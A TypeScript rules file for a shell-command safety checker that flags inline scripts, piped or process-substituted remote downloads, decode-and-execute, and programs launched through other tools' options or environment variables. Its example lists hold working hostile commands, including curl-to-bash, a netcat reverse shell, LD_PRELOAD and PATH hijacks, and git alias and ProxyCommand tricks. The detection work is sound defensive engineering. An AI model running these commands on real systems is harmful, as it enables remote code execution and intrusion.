/** Running text, remote content and hidden programs. */
import { isInput, isInterpreter, inlineFlag, isShell, readsProgram, shellCall } from '../../shell/shells.ts';
import { hasLong } from '../../shell/options.ts';
import { runBy } from '../../shell/unwrap.ts';
import { sedCallsOf } from '../../shell/sed.ts';
import { comesUnseen, decodesWithin, isDecoded, fetchesWithin, followsDecode, followsFetch, runsDecoded, runsDownload, writersBefore, writesText } from './foreign.ts';
import { hole, type Simple } from '../../shell/types.ts';
import { logsIn, shownBy, takesOver } from './environment.ts';
import { argsOf, type Rule } from './rule.ts';

const readsText = (program: string | null): boolean => isShell(program) || isInterpreter(program);
const takesText = (program: string | null): boolean => readsText(program) || program === 'source' || program === '.' || program === 'eval';

/** Whether it runs the text that comes on its input. */
export function readsInput(command: Simple): boolean {
  if (command.program === 'source' || command.program === '.') return isInput(command.words[1]?.text ?? '');
  // Runs a script that it is given so.
  if (command.program === 'uv') return /^run(?: -)?$/.test(argsOf(command).join(' '));
  if (command.program === 'su') return runBy(command.words).length === 0 && !command.words.some(({ text }) => /^(?:-\w*c|--command)/.test(text));
  if (isShell(command.program)) return shellCall(command.words.slice(1)).kind === 'input' || command.words.slice(1).some(({ text }) => isInput(text));
  return isInterpreter(command.program) && readsProgram(command.words.slice(1)) && inlineFlag(command.program ?? '', command.words.slice(1)) === null;
}

const runners = ['*'];

export const runRules: readonly Rule[] = [
  {
    id: 'D13', description: 'shell command via -c/-lc flag', programs: ['sh', 'bash', 'zsh', 'ksh', 'dash', 'ash', 'mksh', 'fish', 'csh', 'tcsh', 'rbash', 'yash', 'su', 'script', 'flock'],
    test: ({ program, words }) => (isShell(program) ? shellCall(words.slice(1)).kind === 'text' : words.some(({ text }, at) => at < words.length - 1 && /^(?:-[a-z]*c|--command)$/.test(text))),
    yes: ["bash -c 'echo hi'", "sh -c 'ls'", "bash -lc 'ls'", "env A=1 bash -c 'echo'", "bash -o pipefail -c 'ls'", "/bin/sh -ec 'ls'", "su - me -c 'ls'", "fish --command='ls'"],
    no: ['bash --norc s.sh', 'bash --rcfile c s.sh', 'sh -x build.sh', 'zsh --version', 'sh ./run.sh -c x'],
  },
  {
    id: 'D14', description: 'script execution via -e/-c flag', programs: runners,
    test: ({ program, words }) => program !== null && program !== '' && isInterpreter(program) && inlineFlag(program, words.slice(1)) !== null,
    yes: ["python3 -c 'import os'", 'python3 -uc pass', "/usr/bin/python3 -c 'pass'", "perl -e '1'", "perl -ne 'print' -e '1'", "ruby -e 'x'", "node -e '1'", "node -p '1'", "php -r 'x'", "deno eval 'x'", "bun -e 'x'", "pwsh -Command x", "python -e 1", "node -c '1'", "expect -c x", "tsx -e 1", "powershell -ExecutionPolicy Bypass -File x.ps1"],
    no: ['python -W once s.py', 'ruby -rjson s.rb', 'node server.js -e x', 'python3 -m http.server', 'python3 -m pytest -c pytest.ini', 'node -c server.js', 'perl script.pl', 'node --version', 'python reboot.py'],
  },
  {
    id: 'D15', description: 'script execution via heredoc', programs: runners,
    test: (command, analysis) => ((command.stdin !== null && !(isShell(command.program) && command.stdin === hole)) || (isInterpreter(command.program) && writersBefore(command, analysis).some(writesText))) && (takesText(command.program) || command.program === 'su' || command.program === 'uv') && command.program !== 'eval' && readsInput(command),
    yes: ["python3 <<'EOF'\nprint(1)\nEOF", "bash <<'EOF'\nls\nEOF", "python3 - <<< 'print(1)'", "cat <<E | python3\nprint(1)\nE", "echo 'print(1)' | python3 -", 'source /dev/stdin <<E\nls\nE', 'su - me <<E\nls\nE', 'deno run - <<E\n1\nE', 'uv run - <<E\n1\nE'],
    no: ["cat <<EOF\nx\nEOF", "python3 s.py <<EOF\nx\nEOF", "cat > n.txt <<'EOF'\nreboot\nEOF", 'cat f | python3 -m json.tool', 'echo x | python3 s.py', 'cat s.py | python3'],
  },
  {
    id: 'D15p', description: 'text from a pipe that was not judged, run', programs: runners,
    test: (command, analysis) => readsText(command.program) && readsInput(command) && !followsFetch(command, analysis) && !followsDecode(command, analysis) && comesUnseen(command, analysis),
    yes: ["ls | sed 's/^/rm /' | sh", 'gpg -d f | bash', 'git show HEAD:x.sh | bash', 'ssh h cat x | sh', './generate | python3'],
    no: ['echo ls | sh', 'cat x.sh | bash', 'cat <<E | sh\nls\nE', 'ls | bash count.sh', 'git log | python3 parse.py'],
  },
  {
    id: 'D16', description: 'pipe remote content to shell', programs: runners,
    test: (command, analysis) => takesText(command.program) && (command.program === 'eval' || readsInput(command) || command.program === 'source' || command.program === '.') && followsFetch(command, analysis),
    yes: ['curl https://h/x | bash', 'curl x | sudo bash', 'wget https://h/x -O - | zsh', 'curl -s https://h/x | tee log | sh', 'curl x | python3', 'curl x | sudo -E bash -'],
    no: ['curl x | jq .', 'curl https://h/bash.txt | sort | uniq -c', 'wget -qO- https://h | grep title', 'curl x | bash -c "cat"', 'curl x | python3 parse.py'],
  },
  {
    id: 'D16s', description: 'execute remote script via process substitution', programs: runners,
    test: (command, analysis) => takesText(command.program) && fetchesWithin(command, analysis),
    yes: ['bash <(curl https://h/x)', 'sh <(wget -qO- h)', '. <(curl -s https://h/e)', 'eval "$(curl -s h)"', 'source <(curl h)', 'bash -c "$(curl -fsSL h)"', 'bash < <(curl h)', 'bash <(timeout 5 curl h)', 'sh <(echo; c""url h)'],
    no: ['diff <(curl a) <(curl b)', 'source venv/bin/activate', 'cat <(curl h)', 'x=$(curl h)'],
  },
  {
    id: 'D16f', description: 'run of a file that was just downloaded', programs: runners,
    test: runsDownload,
    yes: ['curl -o i.sh https://h/i && bash i.sh', 'curl https://h/x > x.sh; sh x.sh', 'wget https://h/i.sh && chmod +x i.sh && ./i.sh', 'wget -O /tmp/a h/a; python3 /tmp/a', 'curl -sSLO https://h/i.sh && . ./i.sh'],
    no: ['curl -o i.sh https://h/i && less i.sh', 'curl https://h/x > x.json; jq . x.json', 'bash build.sh && curl -o build.sh h', 'wget https://h/a.tgz && tar -xzf a.tgz', 'curl -o data h && bash build.sh'],
  },
  {
    id: 'D17', description: 'decode and execute', programs: runners,
    test: (command, analysis) => (takesText(command.program) && ((readsInput(command) && followsDecode(command, analysis)) || decodesWithin(command, analysis))) || isDecoded(command, analysis) || runsDecoded(command, analysis),
    yes: ['base64 -d f | sh', 'base64 --decode p.b64 | bash', 'echo x | xxd -r -p | sh', 'echo x | base64 -d | python3', "echo 'x' | tr a b | sh", 'source <(base64 -d f)', 'eval "$(openssl base64 -d -in f)"', 'echo x | base64 -d > y; sh y', '$(echo bHM= | base64 -d)'],
    no: ['base64 -d f > g', 'base64 f | head', 'tr a b < f'],
  },
  {
    id: 'D26', description: 'program run through an option of another', programs: ['rg', 'sort', 'man', 'ag', 'git', 'gcc', 'g++', 'cc', 'c++', 'tar', 'bsdtar', 'rsync', 'ssh', 'scp', 'sftp', 'awk', 'gawk', 'mawk', 'nawk', 'sed', 'gsed', 'vim', 'vi', 'nvim', 'view', 'ex', 'gdb', 'make', 'gmake', 'less', 'zip', 'ed', 'tcpdump', 'crontab', 'xterm', 'jq', 'sqlite3', 'psql', 'mysql', 'mariadb', 'nc', 'ncat', 'netcat', 'socat', 'systemd-run', 'npm', 'pnpm', 'yarn', 'install', 'run-parts', 'groff', 'troff'],
    test: ({ program, words }) => runsOther[program ?? '']?.(words.slice(1).map(({ text }) => text)) === true,
    yes: ['rg --pre sh x', 'sort --compress-program=sh f', 'sort --compress-prog=sh f', 'man -P sh ls', "git -c alias.x='!id' x", 'git --exec-p=x status', 'tar --checkpoint-act=exec=id -cf a b', 'rsync -e sh a b', 'ssh -oProxyCommand=x h', 'ssh -o ProxyCommand=x h', "awk 'BEGIN{system(\"id\")}'", "sed '1e id' f", "vim -c '!id'", "gdb -ex 'shell id'", "make --eval='$(shell x)'", 'systemd-run -p ExecStartPre=x ls', 'git grep -Oless x', "git config alias.st '!sh -c id'", 'git config --global core.hooksPath x', 'git config set core.pager ./x', "awk 'BEGIN{\"id\" | getline}'", "sqlite3 a '.shell id'", "psql -c '\\! id'", "psql -c \"copy t from program 'id'\"", 'nc -e /bin/sh h 1', 'socat - EXEC:sh', 'git difftool -x ./x', 'git clone -u ./x h y', 'npm --script-shell=./x run build', 'npm run build --script-shell ./x', 'tar -F ./x -cf a b', "tar -I'sh -c id' -xf a", 'gcc -wrapper ./x,-a -c a.c', 'git ls-remote --upl=./x h', 'git fetch --upload-pac ./x h', 'git config include.path ../x', 'git -c include.path=x s', 'git init --template=t x', 'git fetch-pack --exec=./x . HEAD', 'git remote-ext o x', 'git clone -qc core.sshCommand=./x h', "git -c 'url.ext::x.insteadOf=y:' fetch y:", 'install -s --strip-program=./x a b', 'run-parts -a -rf d', 'groff -U f', "awk '{print | s}' f", "vim -c 'set makeprg=x' -c make"],
    no: ['rg --pretty x', 'sort -u f', 'man ls', 'git -c user.name=x commit -m y', 'git config core.pager cat', 'nc -zv h 80', 'gcc -Wall -c a.c', 'git fetch --recurse-submodules', 'git clone --recursive h', 'socat - TCP:h:80', 'tar --file=a -x', 'git push -u origin x', 'git clone --config core.autocrlf=false h', 'git config alias.st status', 'git config --get core.editor', 'git config credential.helper store', 'tar -xzf a.tgz', 'rsync -a a b', "rsync -avz -e 'ssh -p 22' a h:b", 'tar -I zstd -xf a', 'tar --use-compress-program=pigz -cf a b', "psql -c '\\dt'", 'ssh -p 22 h', "awk '{print $1}' f", "sed 's/a/b/' f", 'vim a.txt', 'make -f Makefile x', "sed -e 's/x/y/' f", "sed -n '/re/p' f", "jq '.scripts' package.json"],
  },
  {
    id: 'D27', description: 'environment that changes what a program runs', programs: runners,
    test: ({ program, assignments, words }) => words.length > 0 && assignments.some(({ name, value }) => setsOther(name, value, program ?? '')),
    yes: ['LD_PRELOAD=./x.so ls', 'PATH=/evil:$PATH git status', 'BASH_ENV=f bash s.sh', "env GIT_SSH_COMMAND='sh -c x' git fetch", 'GIT_CONFIG_COUNT=1 git status', 'PAGER=./x git log', 'GH_PAGER=./x gh pr list', 'RSYNC_RSH=./x rsync a h:b', 'TAR_OPTIONS=--to-command=x tar xf a', 'IFS=x cmd', "NODE_OPTIONS='--require ./x' node s"],
    no: ['NODE_OPTIONS=--max-old-space-size=4096 npm test', 'export PATH="$HOME/.local/bin:$PATH"', 'NODE_ENV=test npm test', "while IFS= read -r l; do echo; done", 'FOO=1 make', 'PAGER=cat git log', 'GIT_PAGER= git log', 'AWS_PAGER= aws s3 ls', "RSYNC_RSH='ssh -p 22' rsync a h:b", 'TAR_OPTIONS=--exclude=x tar xf a', 'LC_ALL=C sort f', 'IFS=, read -r a b'],
  },
];

const setsOther = (name: string, value: string, program: string): boolean =>
  name === 'TAR_OPTIONS' ? runsOther['tar']?.(value.split(/\s+/)) === true : takesOver(name, value, program);

/** `-I zstd`, `-e 'ssh -p 22'`: what these options are for. */
const compresses = (value: string): boolean => /^(?:p?igz|gzip|p?bzip2|p?xz|pixz|zstd(?:mt)?|lz4|lzma|lzop|brotli)(?: -[\w-]+)*$/.test(value);

type Runs = (args: readonly string[]) => boolean;
const gnu = (...options: readonly string[]): Runs => (args) => options.some((option) => hasLong(args, option, 4));
const proxies: Runs = (args) => args.some((arg, at) => /(?:ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)/i.test(arg) && (/^-[a-zA-Z\d]*o/.test(arg) || /^-[a-zA-Z\d]*o$/.test(args[at - 1] ?? '')));
const awkRuns: Runs = (args) => args.some((arg) => /\bsystem\s*\(|\|\s*getline|\bprint[^}\n]*\|\s*"/.test(arg) || /\bprint[^}\n]*[\s)"]\|\s*[a-zA-Z_]/.test(arg.replace(/"(?:\\.|[^"\\])*"/g, '""')));
const sedRuns: Runs = (args) => sedCallsOf(args).length > 0;
const vimRuns: Runs = (args) => args.some((arg, at) => /^(?:-c|--cmd|-S|-s)$/.test(args[at - 1] ?? '') && vimCalls.test(arg)) || args.some((arg) => /^\+/.test(arg) && (/^\+.*!/.test(arg) || vimCalls.test(arg)));
const vimCalls = /!|system(?:list)?\(|(?:job|term)_start\(|libcall|(?:make|grep|eq|format|keyword)prg|\bshell=|^\+?:?(?:py|lua|ruby|perl)/;
const escapes: Runs = (args) => args.some((arg) => /(?:^|[\s;=])\\!\s*\S|\b(?:from|to)\s+program\s+'|\\[ogw]\s*\||^(?:system|\\!)\s|^--pager=/i.test(arg));
const listens: Runs = (args) => args.some((arg) => /^-[a-z]*e$|^--(?:sh-|lua-)?exec/.test(arg));
const unsafe: Runs = (args) => args.some((arg) => /^-[a-zA-Z]*U/.test(arg));
const wraps: Runs = (args) => args.includes('-wrapper');
const makeRuns: Runs = (args) => args.some((arg) => /^--eval|^-E/.test(arg));

/** `git config KEY VALUE` for a key whose value git runs later; one that only shows text is left alone. */
const configuresProgram: Runs = (args) => {
  const from = args.indexOf('config');
  const [key = '', ...value] = from < 0 ? [] : args.slice(from + 1).filter((arg) => !arg.startsWith('-') && !/^(?:set|add)$/.test(arg));
  const runs = /^(?:core\.(?:fsmonitor|pager|editor|sshcommand|hookspath|gitproxy|askpass)|include(?:if\..*)?\.path|sequence\.editor|credential\..*helper|gpg\..*program|(?:diff|merge|filter|difftool|mergetool)\..*\.(?:command|textconv|driver|clean|smudge|process|cmd))$/i.test(key);
  return value.length > 0 && ((/^alias\./i.test(key) && value[0]?.startsWith('!') === true) || (runs && !shownBy(value.join(' '))));
};

const runsOther: Readonly<Record<string, Runs>> = {
  rg: gnu('--pre', '--hostname-bin'), sort: gnu('--compress-program'), ag: gnu('--pager'),
  man: (args) => args.some((arg) => /^-[a-zA-Z]*[PH]/.test(arg)) || hasLong(args, '--pager') || hasLong(args, '--html'),
  tar: (args) => args.some((arg, at) => (at === 0 ? /^-?[a-zA-Z]*F/ : /^-[a-zA-Z]*F/).test(arg)) || (/^[a-zA-Z]*I/.test(args[0] ?? '') && !args.slice(1, 4).some(compresses)) || args.some((arg, at) => /^--use-comp/.test(arg) && !compresses(arg.includes('=') ? arg.replace(/^[^=]*=/, '') : (args[at + 1] ?? ''))) || gnu('--checkpoint-action', '--to-command', '--info-script', '--new-volume-script', '--rsh-command')(args) || args.some((arg, at) => /^-[a-zA-Z]*I/.test(arg) && !compresses(arg.replace(/^-[a-zA-Z]*I/, '') || (args[at + 1] ?? ''))),
  bsdtar: gnu('--use-compress-program'),
  rsync: (args) => args.some((arg, at) => /^-[a-zA-Z]*e|^--rsh/.test(arg) && !logsIn(/[e=](.+)$/.exec(arg)?.[1] ?? args[at + 1] ?? '')) || hasLong(args, '--rsync-path'),
  sqlite3: (args) => args.some((arg) => /^\s*\.(?:(?:shell|system)\b|(?:once|output|import|log)\s*\|)/.test(arg)), psql: escapes, mysql: escapes, mariadb: escapes,
  ssh: proxies, scp: (args) => proxies(args) || args.includes('-S'), sftp: (args) => proxies(args) || args.includes('-S'),
  awk: awkRuns, gawk: awkRuns, mawk: awkRuns, nawk: awkRuns, sed: sedRuns, gsed: sedRuns,
  vim: vimRuns, vi: vimRuns, nvim: vimRuns, view: vimRuns, ex: vimRuns,
  gdb: (args) => args.some((arg) => /^(?:-ex|-iex|-eval-command|--eval-command|-x|--command)/.test(arg)),
  make: makeRuns, gmake: makeRuns,
  npm: gnu('--script-shell'), pnpm: gnu('--script-shell', '--shell-emulator'), yarn: gnu('--script-shell'),
  gcc: wraps, 'g++': wraps, cc: wraps, 'c++': wraps,
  install: gnu('--strip-program'), 'run-parts': (args) => args.some((arg) => /^(?:-a|--a)/.test(arg)), groff: unsafe, troff: unsafe,
  less: (args) => args.some((arg) => /^\+!/.test(arg)),
  'systemd-run': (args) => args.some((arg) => /\bExec(?:Start|Stop|Reload|Condition)\w*=/.test(arg)),
  nc: listens, ncat: listens, netcat: listens, socat: (args) => args.some((arg) => /\b(?:exec|system|shell):/i.test(arg)),
  zip: (args) => args.some((arg) => arg.startsWith('-TT')) || hasLong(args, '--unzip-command'),
  tcpdump: (args) => args.includes('-z'),
  git: (args) => configuresProgram(args) || args.some((arg, at) => (args[at - 1] === '-c' || /^-c./.test(arg) || arg.startsWith('--config-env')) && /^(?:-c|--config-env=?)?(?:alias\.[^=]*=\s*!|include(?:if\.[^=]*)?\.path=|protocol\.ext\.allow=|url\.\W?ext::|core\.(?:fsmonitor|pager|editor|sshcommand|hookspath|gitproxy|askpass)|diff\..*\.?(?:external|command|textconv)|.*\.(?:cmd|command|helper|process|clean|smudge|program|textconv|driver|uploadpack|receivepack)=|sequence\.editor|pager\.)/i.test(arg))
    || args.some((arg) => /^--exec-p\w*=/.test(arg)) || (args.includes('grep') && args.some((arg) => /^-O|^--open/.test(arg)))
    || (args.includes('bisect') && args.includes('run')) || (args.includes('rebase') && args.some((arg) => /^(?:-x|--exec)/.test(arg)))
    || args.some((arg) => /^--(?:upl|rec(?:e|$|=)|extcmd)/.test(arg) || /^--(?:to|cc|header|sendmail)-cmd/.test(arg) || /^--smtp-server=\//.test(arg))
    || (args.includes('difftool') && args.some((arg) => /^-[a-z]*x/.test(arg))) || (/^(?:push|archive|fetch-pack|send-pack)$/.test(args.find((arg) => !arg.startsWith('-')) ?? '') && args.some((arg) => /^--exec/.test(arg)))
    || (args[0] === 'clone' && args.includes('-u')) || args.some((arg, at) => (/^(?:--config|-[a-z]*c)$/.test(args[at - 1] ?? '') || /^--config=/.test(arg)) && /core\.(?:fsmonitor|sshcommand|hookspath|gitproxy|editor|pager)=/i.test(arg))
    || args.some((arg, at) => args[at - 1] === '-c' && /^(?:interactive\.difffilter|uploadpack\.packobjectshook|instaweb\.httpd)=/i.test(arg)) || args.some((arg) => /^ext::/.test(arg)) || args[0] === 'remote-ext' || (/^(?:init|clone)$/.test(args.find((arg) => !arg.startsWith('-')) ?? '') && args.some((arg) => /^--te\w*(?:=.|$)/.test(arg))),
};
